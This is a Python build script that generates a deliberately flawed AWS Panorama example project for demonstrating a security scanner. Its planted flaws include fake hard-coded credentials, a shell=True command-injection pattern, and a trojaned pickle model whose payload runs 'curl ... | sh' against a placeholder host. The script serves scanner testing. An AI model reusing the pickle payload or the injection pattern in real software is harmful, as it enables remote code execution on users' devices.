"""Build the bundled example Panorama application, deterministically.

``python examples/build_example.py`` writes ``examples/shelf-monitor/``: a Panorama project as
``panorama-cli`` lays it out (graphs/, packages/, assets/), whose container asset is a flat
docker-export root filesystem and whose model asset is a raw model archive. It carries a few
real problems so that a scan shows what panorama-gate does:

- a hard-coded AWS access key and camera credentials in an RTSP URL in the application code;
- ``subprocess`` with ``shell=True`` on a value from a parameter (bandit B602);
- an old ``urllib3`` (1.24.1, with published advisories) installed in the image;
- a GPL-3.0 licensed package in the image;
- a pickle model whose payload would run ``os.system`` when loaded;
- an email address in the graph's description (ends up in AWS logs).

The output is byte-for-byte reproducible (fixed mtimes, gzip without timestamps), so
``make check-example`` can verify the committed copy.
"""

from __future__ import annotations

import argparse
import gzip
import hashlib
import io
import json
import pickle
import shutil
import tarfile
from pathlib import Path

ACCOUNT = "123456789012"
APP = "shelf-monitor"
CODE_PKG = "shelf_monitor_code"
MODEL_PKG = "shelf_monitor_model"
VERSION = "1.0"

# Not a real key: the shape of one, so that the secret rules fire on it.
FAKE_KEY_ID = "AKIA" + "Q3EGRTZ7" + "WLKD4N2P"
FAKE_SECRET = "wJalrXUt" + "nFEMI/K7MDENG/bPxRfiCY" + "ZQ9x8Tm2kL"

APP_PY = f'''"""Shelf monitor: counts products on a shelf and raises a restock alert."""

import subprocess

import boto3
import numpy as np
import panoramasdk

CAMERA_URL = "rtsp://admin:Sh3lfCam!2024@192.168.10.21:554/stream1"
AWS_ACCESS_KEY_ID = "{FAKE_KEY_ID}"
AWS_SECRET_ACCESS_KEY = "{FAKE_SECRET}"


class ShelfMonitor(panoramasdk.node):
    """Reads frames, runs the detector, draws boxes, alerts when a shelf runs low."""

    def __init__(self):
        super().__init__()
        self.threshold = self.inputs.threshold.get()
        self.alert_cmd = self.inputs.alert_command.get()
        self.s3 = boto3.client(
            "s3",
            aws_access_key_id=AWS_ACCESS_KEY_ID,
            aws_secret_access_key=AWS_SECRET_ACCESS_KEY,
        )

    def process(self, media):
        image = media.image.astype(np.float32) / 255.0
        tensor = np.transpose(image, (2, 0, 1))[None]
        (scores,) = self.call({{"data": tensor}}, "shelf_model")
        count = int((scores > self.threshold).sum())
        media.add_rect(0.1, 0.1, 0.9, 0.9)
        media.add_label(f"items: {{count}}", 0.1, 0.05)
        if count < 3:
            subprocess.call(self.alert_cmd + " low-stock", shell=True)

    def run(self):
        while True:
            streams = self.inputs.video_in.get()
            for media in streams:
                self.process(media)
            self.outputs.video_out.put(streams)


def main():
    ShelfMonitor().run()


main()
'''

DOCKERFILE = """FROM public.ecr.aws/panorama/panorama-application:latest
COPY src /panorama
RUN pip3 install boto3 numpy
"""


def _metadata(name: str, version: str, license_line: str, classifier: str) -> bytes:
    return (
        f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"
        f"Summary: {name} (example)\n{license_line}\nClassifier: {classifier}\n\n"
    ).encode()


DPKG_STATUS = b"""Package: libc6
Status: install ok installed
Priority: optional
Architecture: arm64
Source: glibc
Version: 2.31-0ubuntu9.9
Description: GNU C Library: Shared libraries

Package: zlib1g
Status: install ok installed
Priority: required
Architecture: arm64
Source: zlib
Version: 1:1.2.11.dfsg-2ubuntu1.2
Description: compression library - runtime

Package: python3.8
Status: install ok installed
Priority: optional
Architecture: arm64
Version: 3.8.10-0ubuntu1~20.04.8
Description: Interactive high-level object-oriented language (version 3.8)

"""

SITE = "usr/lib/python3/dist-packages"


def rootfs_files() -> dict[str, bytes]:
    """The container's files (a trimmed Ubuntu 20.04 arm64 tree plus the app)."""
    return {
        "etc/os-release": b'NAME="Ubuntu"\nVERSION_ID="20.04"\nID=ubuntu\n',
        "etc/hostname": b"panorama\n",
        "var/lib/dpkg/status": DPKG_STATUS,
        "usr/share/doc/libc6/copyright": b"Format: https://www.debian.org/doc/packaging-manuals/"
        b"copyright-format/1.0/\n\nFiles: *\nLicense: LGPL-2.1+\n",
        "panorama/app.py": APP_PY.encode(),
        "panorama/labels.txt": b"cereal\nsoup\npasta\n",
        f"{SITE}/urllib3-1.24.1.dist-info/METADATA": _metadata(
            "urllib3", "1.24.1", "License: MIT", "License :: OSI Approved :: MIT License"
        ),
        f"{SITE}/urllib3-1.24.1.dist-info/RECORD": b"",
        f"{SITE}/urllib3/__init__.py": b'__version__ = "1.24.1"\n',
        f"{SITE}/shelfstats-0.3.0.dist-info/METADATA": _metadata(
            "shelfstats",
            "0.3.0",
            "License: GPL-3.0-only",
            "License :: OSI Approved :: GNU General Public License v3 (GPLv3)",
        ),
        f"{SITE}/shelfstats/__init__.py": b"def mean(xs):\n    return sum(xs) / len(xs)\n",
    }


def _tar_gz(files: dict[str, bytes], dirs: list[str], links: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for d in sorted(dirs):
            ti = tarfile.TarInfo(d)
            ti.type, ti.mode, ti.mtime = tarfile.DIRTYPE, 0o755, 0
            tf.addfile(ti)
        for name, target in sorted(links.items()):
            ti = tarfile.TarInfo(name)
            ti.type, ti.linkname, ti.mode, ti.mtime = tarfile.SYMTYPE, target, 0o777, 0
            tf.addfile(ti)
        for name, data in sorted(files.items()):
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), 0o644, 0
            tf.addfile(ti, io.BytesIO(data))
    return gzip.compress(buf.getvalue(), compresslevel=1, mtime=0)


class _Exploit:
    """Pickles to a call of os.system: what a trojaned model looks like (never unpickled)."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, ("curl -s http://203.0.113.7/x | sh",))


def model_archive() -> bytes:
    """A PYTORCH-framework archive whose weights file is a malicious pickle."""
    payload = pickle.dumps(
        {"state_dict": {"fc.weight": [0.1, 0.2]}, "hook": _Exploit()}, protocol=2
    )
    return _tar_gz({"shelf_model/model.pth": payload}, ["shelf_model/"], {})


def _ghsa(ghsa: str, cve: str, fixed: str, summary: str, vector: str) -> dict[str, object]:
    return {
        "schema_version": "1.6.0",
        "id": ghsa,
        "modified": "2024-05-20T20:10:19Z",
        "published": "2019-04-19T16:56:00Z",
        "aliases": [cve],
        "summary": summary,
        "severity": [{"type": "CVSS_V3", "score": vector}],
        "affected": [
            {
                "package": {"ecosystem": "PyPI", "name": "urllib3", "purl": "pkg:pypi/urllib3"},
                "ranges": [
                    {"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": fixed}]}
                ],
            }
        ],
        "references": [{"type": "WEB", "url": f"https://github.com/advisories/{ghsa}"}],
    }


# Real advisories (ids, versions and vectors as published), for the offline database demo.
OSV_RECORDS: dict[str, list[dict[str, object]]] = {
    "PyPI": [
        _ghsa(
            "GHSA-mh33-7rrq-662w",
            "CVE-2019-11324",
            "1.24.2",
            "Improper Certificate Validation in urllib3",
            "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N",
        ),
        _ghsa(
            "GHSA-r64q-w8jr-g9qp",
            "CVE-2019-11236",
            "1.24.3",
            "Improper Neutralization of CRLF Sequences in HTTP Headers in urllib3",
            "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N",
        ),
    ],
    "Ubuntu": [
        {
            "schema_version": "1.6.0",
            "id": "UBUNTU-CVE-2022-37434",
            "modified": "2024-09-10T09:00:00Z",
            "published": "2022-08-05T07:15:00Z",
            "upstream": ["CVE-2022-37434"],
            "summary": "zlib through 1.2.12 has a heap-based buffer over-read or buffer overflow "
            "in inflate in inflate.c via a large gzip header extra field",
            "severity": [
                {"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}
            ],
            "affected": [
                {
                    "package": {
                        "ecosystem": "Ubuntu:20.04:LTS",
                        "name": "zlib",
                        "purl": "pkg:deb/ubuntu/zlib?arch=source",
                    },
                    "ranges": [
                        {
                            "type": "ECOSYSTEM",
                            "events": [{"introduced": "0"}, {"fixed": "1:1.2.11.dfsg-2ubuntu1.5"}],
                        }
                    ],
                }
            ],
            "references": [{"type": "REPORT", "url": "https://ubuntu.com/security/CVE-2022-37434"}],
        }
    ],
}


def build_osv_db(out: Path) -> Path:
    """Write the example's offline OSV database (one JSON record per file, per ecosystem)."""
    if out.exists():
        shutil.rmtree(out)
    for ecosystem, records in OSV_RECORDS.items():
        for record in records:
            _write_json(out / ecosystem / f"{record['id']}.json", record)
    return out


def _write_json(path: Path, data: object) -> bytes:
    raw = (json.dumps(data, indent=2) + "\n").encode()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(raw)
    return raw


def _asset(assets: Path, data: bytes, suffix: str) -> str:
    name = hashlib.sha256(data).hexdigest() + suffix
    (assets / name).write_bytes(data)
    return name


def build(out: Path) -> Path:
    """Write the project to ``out`` (replacing it) and return it."""
    if out.exists():
        shutil.rmtree(out)
    assets = out / "assets"
    assets.mkdir(parents=True)
    code_dir = out / "packages" / f"{ACCOUNT}-{CODE_PKG}-{VERSION}"
    model_dir = out / "packages" / f"{ACCOUNT}-{MODEL_PKG}-{VERSION}"

    (code_dir / "src").mkdir(parents=True)
    (code_dir / "src" / "app.py").write_text(APP_PY)
    (code_dir / "Dockerfile").write_text(DOCKERFILE)
    code_desc = {
        "runtimeDescriptor": {
            "envelopeVersion": "2021-01-01",
            "entry": {"path": "python3", "name": "/panorama/app.py"},
        }
    }
    code_desc_raw = _write_json(code_dir / "descriptor.json", code_desc)
    rootfs = _tar_gz(
        rootfs_files(),
        [
            "etc/",
            "usr/",
            "usr/bin/",
            "panorama/",
            "opt/aws/panorama/logs/",
            "opt/aws/panorama/storage/",
            "tmp/",
        ],
        {"bin": "usr/bin", "etc/localtime": "/usr/share/zoneinfo/Etc/UTC"},
    )
    rootfs_name = _asset(assets, rootfs, ".tar.gz")
    code_desc_name = _asset(assets, code_desc_raw, ".json")
    _write_json(
        code_dir / "package.json",
        {
            "nodePackage": {
                "envelopeVersion": "2021-01-01",
                "name": CODE_PKG,
                "version": VERSION,
                "description": "Shelf monitoring business logic",
                "assets": [
                    {
                        "name": "code_asset",
                        "implementations": [
                            {
                                "type": "container",
                                "assetUri": rootfs_name,
                                "descriptorUri": code_desc_name,
                            }
                        ],
                    }
                ],
                "interfaces": [
                    {
                        "name": "code_interface",
                        "category": "business_logic",
                        "asset": "code_asset",
                        "inputs": [
                            {"name": "video_in", "type": "media"},
                            {"name": "threshold", "type": "float32"},
                            {"name": "alert_command", "type": "string"},
                        ],
                        "outputs": [{"name": "video_out", "type": "media"}],
                    }
                ],
            }
        },
    )

    model_desc = {
        "mlModelDescriptor": {
            "envelopeVersion": "2021-01-01",
            "framework": "PYTORCH",
            "inputs": [{"name": "data", "shape": [1, 3, 224, 224]}],
        }
    }
    model_desc_raw = _write_json(model_dir / "descriptor.json", model_desc)
    model_name = _asset(assets, model_archive(), ".tar.gz")
    model_desc_name = _asset(assets, model_desc_raw, ".json")
    _write_json(
        model_dir / "package.json",
        {
            "nodePackage": {
                "envelopeVersion": "2021-01-01",
                "name": MODEL_PKG,
                "version": VERSION,
                "description": "Shelf product detector",
                "assets": [
                    {
                        "name": "shelf_model",
                        "implementations": [
                            {
                                "type": "model",
                                "assetUri": model_name,
                                "descriptorUri": model_desc_name,
                            }
                        ],
                    }
                ],
                "interfaces": [
                    {
                        "name": "shelf_model_interface",
                        "category": "ml_model",
                        "asset": "shelf_model",
                        "inputs": [{"name": "video_in", "type": "media"}],
                        "outputs": [{"name": "video_out", "type": "media"}],
                    }
                ],
            }
        },
    )

    _write_json(
        out / "graphs" / APP / "graph.json",
        {
            "nodeGraph": {
                "envelopeVersion": "2021-01-01",
                "description": (
                    "Shelf monitor for store 42; contact jane.doe@example.com for access"
                ),
                "packages": [
                    {"name": f"{ACCOUNT}::{CODE_PKG}", "version": VERSION},
                    {"name": f"{ACCOUNT}::{MODEL_PKG}", "version": VERSION},
                    {"name": "panorama::abstract_rtsp_media_source", "version": "1.0"},
                    {"name": "panorama::hdmi_data_sink", "version": "1.0"},
                ],
                "nodes": [
                    {
                        "name": "camera",
                        "interface": "panorama::abstract_rtsp_media_source.rtsp_v1_interface",
                        "overridable": True,
                        "overrideMandatory": True,
                        "decorator": {
                            "title": "Aisle camera",
                            "description": "Camera over the shelf",
                        },
                    },
                    {"name": "code_node", "interface": f"{ACCOUNT}::{CODE_PKG}.code_interface"},
                    {
                        "name": "shelf_model",
                        "interface": f"{ACCOUNT}::{MODEL_PKG}.shelf_model_interface",
                    },
                    {"name": "display", "interface": "panorama::hdmi_data_sink.hdmi0"},
                    {
                        "name": "threshold",
                        "interface": "float32",
                        "value": 0.5,
                        "overridable": True,
                        "decorator": {
                            "title": "Score threshold",
                            "description": "Minimum detection score",
                        },
                    },
                    {
                        "name": "alert_command",
                        "interface": "string",
                        "value": "/usr/bin/notify",
                        "overridable": True,
                        "decorator": {"title": "Alert command", "description": "Run on low stock"},
                    },
                ],
                "edges": [
                    {"producer": "camera.video_out", "consumer": "code_node.video_in"},
                    {"producer": "code_node.video_out", "consumer": "display.video_in"},
                    {"producer": "threshold", "consumer": "code_node.threshold"},
                    {"producer": "alert_command", "consumer": "code_node.alert_command"},
                ],
            }
        },
    )
    return out


def main() -> None:
    """Command-line entry: ``python examples/build_example.py [--out DIR]``."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=Path(__file__).resolve().parent / APP)
    parser.add_argument("--osv-db", type=Path, default=Path(__file__).resolve().parent / "osv-db")
    args = parser.parse_args()
    print(build(args.out))
    print(build_osv_db(args.osv_db))


if __name__ == "__main__":
    main()
